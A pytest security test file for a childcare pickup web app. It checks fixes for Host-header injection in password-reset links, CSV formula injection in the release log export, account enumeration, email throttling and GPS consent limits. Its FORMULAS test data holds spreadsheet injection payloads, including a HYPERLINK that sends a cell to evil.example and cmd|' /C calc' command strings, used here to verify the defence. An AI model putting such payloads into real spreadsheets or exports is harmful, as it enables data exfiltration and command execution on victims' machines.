"""The findings of issue 11 not proved elsewhere in this folder, one test each, as the
attacker tried them. (Sign-in throttling: test_signin.py; ids, bodies, JSON, TRACE, static
files, /healthz, the outbox: test_limits.py; CSRF and Origin: test_csrf_origin.py.)"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession
from sqlmodel import col
from starlette.testclient import TestClient

from server.app import create_app
from server.core.clock import ManualClock
from server.core.models import CenterAccount, Guardian, StaffUser
from server.core.settings import Settings
from tests.helpers import (
    API_TOKEN,
    B_TOKEN,
    PASSWORD,
    another_browser,
    api_headers,
    in_db,
    sign_in_as,
)
from tests.security.conftest import (
    A_CENTRE,
    A_RECEPTION,
    World,
    browser,
    outbox_bodies,
    outbox_count,
    post,
    sign_in,
)

PUBLIC = "https://relais.example.org"


# -- 3: links in emails never follow the request's Host header --------------------------------


def test_links_follow_the_public_address_whatever_the_host_header(
    settings: Settings, clock: ManualClock, database_url: str
) -> None:
    app = create_app(
        dataclasses.replace(settings, public_url=PUBLIC), clock=clock, background=False
    )
    with TestClient(app) as client:
        client.get("/parent/forgot")
        asked = client.post(
            "/parent/forgot",
            data={"email": "parent@example.org", "csrf_token": client.cookies.get("relais_csrf")},
            headers={"Host": "evil.example"},
        )
        assert asked.status_code == 200
        admin = browser_on(client, database_url)
        made = post(
            admin,
            "/admin/displays",
            {"name": "Hall", "installation_id": "1", "group_id": "all"},
            headers={"Host": "evil.example", "Origin": "http://evil.example"},
        )
        assert made.status_code == 303
        shown = admin.get("/admin/displays")
    links = re.findall(r"https?://[^\s/]+/parent/reset/", "\n".join(outbox_bodies(database_url)))
    assert links and all(link.startswith(PUBLIC) for link in links)
    assert f"{PUBLIC}/display/" in shown.text
    assert "evil.example" not in shown.text


def browser_on(client: TestClient, database_url: str) -> TestClient:
    return sign_in_as(another_browser(client), database_url, "admin", "direction@example.org")


# -- 4: no formulas in the release log's CSV --------------------------------------------------

FORMULAS = {
    "child": '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
    "guardian": "+1+cmd|' /C calc'!A0",
    "group": "@SUM(1+1)*cmd|' /C calc'!A0",
    "installation": "-2+3",
}


def test_the_release_log_csv_never_starts_a_cell_with_a_formula(world: World) -> None:
    roster = {
        "installations": [
            {
                "id": "B-NORD",
                "name": FORMULAS["installation"],
                "groups": [{"id": "B-PING", "name": FORMULAS["group"]}],
            }
        ],
        "guardians": [
            {
                "id": "B-G1",
                "first_name": FORMULAS["guardian"],
                "last_name": "Bêta",
                "email": "parent@beta.example",
            }
        ],
        "children": [
            {
                "id": child,
                "first_name": FORMULAS["child"],
                "last_name": "Bêta",
                "installation_id": "B-NORD",
                "group_id": "B-PING",
                "guardian_ids": ["B-G1"],
            }
            for child in ("B-C1", "B-C2", "B-C3")
        ],
    }
    assert world.client.put("/api/v1/roster", headers=api_headers(B_TOKEN), json=roster).is_success
    export = browser(world, "b-admin").get("/admin/log.csv")
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the pickup is in the log"
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for value in FORMULAS.values():
        assert any(cell.startswith("'" + value) for cell in cells), value


# -- 7: nothing tells an organization that an address has an account elsewhere ----------------


def test_inviting_staff_with_an_address_used_elsewhere_looks_like_any_invitation(
    world: World,
) -> None:
    admin = browser(world, "b-admin")
    invited = post(
        admin, "/admin/staff", {"email": A_RECEPTION, "name": "Nouvelle", "role": "admin"}
    )
    assert invited.status_code == 303
    page = admin.get(invited.headers["location"])
    assert f"{A_RECEPTION}" in page.text  # "Invitation sent to …", like any address

    async def accounts(session: AsyncSession) -> list[tuple[int, str]]:
        rows = await session.execute(
            select(col(StaffUser.organization_id), col(StaffUser.password_hash)).where(
                col(StaffUser.email) == A_RECEPTION
            )
        )
        return [(org, hashed) for org, hashed in rows.all()]

    both = in_db(world.database_url, accounts)
    assert {org for org, _hashed in both} == {world.a.organization, world.b.organization}
    # Each organization's account has its own password; A's still signs in.
    person = another_browser(world.client)
    sign_in(person, "staff", A_RECEPTION, PASSWORD)

    again = post(admin, "/admin/staff", {"email": A_RECEPTION, "name": "Encore", "role": "admin"})
    assert again.status_code == 400  # within one organization, one account per address


def test_a_centre_account_with_an_address_used_elsewhere_is_created_like_any(
    world: World,
) -> None:
    from tests.security.test_injection import _installation_id

    roster_with_south = {
        "installations": [
            {"id": "B-NORD", "name": "Bêta Nord", "groups": [{"id": "B-PING", "name": "P"}]},
            {"id": "B-SUD", "name": "Bêta Sud", "groups": [{"id": "B-S1", "name": "S"}]},
        ],
        "guardians": [],
        "children": [],
    }
    # Without its one child: a deactivation of more than a fifth, confirmed.
    assert world.client.put(
        "/api/v1/roster?confirm_deactivations=true",
        headers=api_headers(B_TOKEN),
        json=roster_with_south,
    ).is_success
    south = _installation_id(world, "B-SUD")
    created = post(
        browser(world, "b-admin"),
        f"/admin/integrations/{south}/create",
        {
            "display_name": "Bêta Sud",
            "email": A_CENTRE,
            "password": "un autre mot de passe",
            "password_confirmation": "un autre mot de passe",
        },
    )
    assert created.status_code == 303, created.text

    async def centres(session: AsyncSession) -> int:
        rows = await session.execute(
            select(col(CenterAccount.id)).where(col(CenterAccount.email) == A_CENTRE)
        )
        return len(rows.all())

    assert in_db(world.database_url, centres) == 2
    # Both sign in to their own portal with their own password.
    for password, place in ((PASSWORD, "Érables"), ("un autre mot de passe", "Bêta Sud")):
        centre = another_browser(world.client)
        sign_in(centre, "portal", A_CENTRE, password)
        assert place in centre.get("/portal/profile").text


# -- 8: activation emails cannot be sent again and again --------------------------------------


def _invited(world: World) -> None:
    async def invite(session: AsyncSession) -> None:
        for guardian_id in (world.a.guardian, world.b.guardian):
            guardian = await session.get(Guardian, guardian_id)
            assert guardian is not None
            guardian.account_state = "invited"
            session.add(guardian)

    in_db(world.database_url, invite)


@pytest.mark.parametrize(
    ("role", "path", "refused_at"),
    [
        ("b-admin", "/admin/guardians/{id}/invite", "/admin/parents?invite_wait="),
        ("b-centre", "/portal/guardians/{id}/activation", "/portal/students?wait="),
    ],
)
def test_an_activation_email_goes_three_times_an_hour_at_most(
    world: World, clock: ManualClock, role: str, path: str, refused_at: str
) -> None:
    _invited(world)
    sender = browser(world, role)
    url = path.format(id=world.b.guardian)
    before = outbox_count(world.database_url)
    for _n in range(3):
        assert post(sender, url).status_code == 303
    assert outbox_count(world.database_url) == before + 3
    refused = post(sender, url)
    assert refused.status_code == 303
    assert refused.headers["location"].startswith(refused_at)
    page = sender.get(refused.headers["location"])
    assert "Trop de tentatives. Réessayez dans 60 minutes." in page.text
    assert outbox_count(world.database_url) == before + 3
    clock.advance(timedelta(hours=1))
    assert post(sender, url).headers["location"] != refused.headers["location"]
    assert outbox_count(world.database_url) == before + 4


def test_a_staff_invitation_goes_three_times_an_hour_at_most(world: World) -> None:
    admin = browser(world, "b-admin")
    invited = post(
        admin, "/admin/staff", {"email": "new@beta.example", "name": "Nouveau", "role": "admin"}
    )
    user_id = invited.headers["location"].split("invited=")[1]
    for _n in range(3):
        assert post(admin, f"/admin/staff/{user_id}/invite").status_code == 303
    refused = post(admin, f"/admin/staff/{user_id}/invite")
    assert refused.status_code == 429
    assert "Trop de tentatives." in refused.text


# -- the GPS cap of 60 minutes, enforced by the server ----------------------------------------


def test_positions_after_sixty_minutes_are_refused_and_not_recorded(
    world: World, clock: ManualClock
) -> None:
    parent = browser(world, "b-parent")
    assert post(parent, "/parent/consent/location").status_code == 204
    started = post(
        parent,
        "/parent/trip/start",
        {"child_id": str(world.b.other_child), "latitude": "45.60", "longitude": "-73.60"},
    )
    assert started.status_code == 200, started.text
    clock.advance(timedelta(minutes=61))
    late = post(parent, "/parent/trip/position", {"latitude": "45.55", "longitude": "-73.58"})
    assert late.status_code == 422
    assert "60 minutes" in late.text
    listed = world.client.get("/api/v1/pickups", headers=api_headers(B_TOKEN)).json()
    trip = next(p for p in listed if p["child_id"] == "B-C3")
    assert trip["updated_at"] < (clock.now() - timedelta(minutes=60)).isoformat()


def test_no_position_leaves_a_phone_without_the_parents_consent(world: World) -> None:
    parent = browser(world, "b-parent")
    refused = post(
        parent,
        "/parent/trip/start",
        {"child_id": str(world.b.other_child), "latitude": "45.60", "longitude": "-73.60"},
    )
    assert refused.status_code == 403
    listed = world.client.get("/api/v1/pickups", headers=api_headers(B_TOKEN)).json()
    assert all(p["child_id"] != "B-C3" for p in listed)


# -- the OpenAPI declares what the server enforces ----------------------------------------------


def test_the_openapi_declares_the_rules(client: TestClient) -> None:
    document = client.get("/api/v1/openapi.json").json()
    schemas = document["components"]["schemas"]
    for name in (
        "EtaPickupIn",
        "GpsPickupIn",
        "StatusIn",
        "AttendanceIn",
        "ChildPatch",
        "RosterIn",
    ):
        assert schemas[name]["additionalProperties"] is False, name
    assert "pattern" in schemas["EtaPickupIn"]["properties"]["eta"]
    assert schemas["StatusIn"]["properties"]["status"]["enum"] == ["called", "ready", "departed"]
    listing = document["paths"]["/pickups"]["get"]["parameters"]
    status = next(p for p in listing if p["name"] == "status")
    assert "announced" in status["schema"]["enum"]
    pickup_id = document["paths"]["/pickups/{pickup_id}/status"]["post"]["parameters"][0]
    assert pickup_id["schema"]["maximum"] == 2**31 - 1
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            if "requestBody" in operation:
                assert {"413", "422"} <= set(operation["responses"]), (method, path)


@pytest.mark.parametrize("present", [0, 1, "true", "yes"])
def test_present_must_be_a_json_boolean(client: TestClient, present: object) -> None:
    answer = client.post(
        "/api/v1/attendance",
        headers=api_headers(API_TOKEN),
        json={"child_id": "C0002", "present": present},
    )
    assert answer.status_code == 422
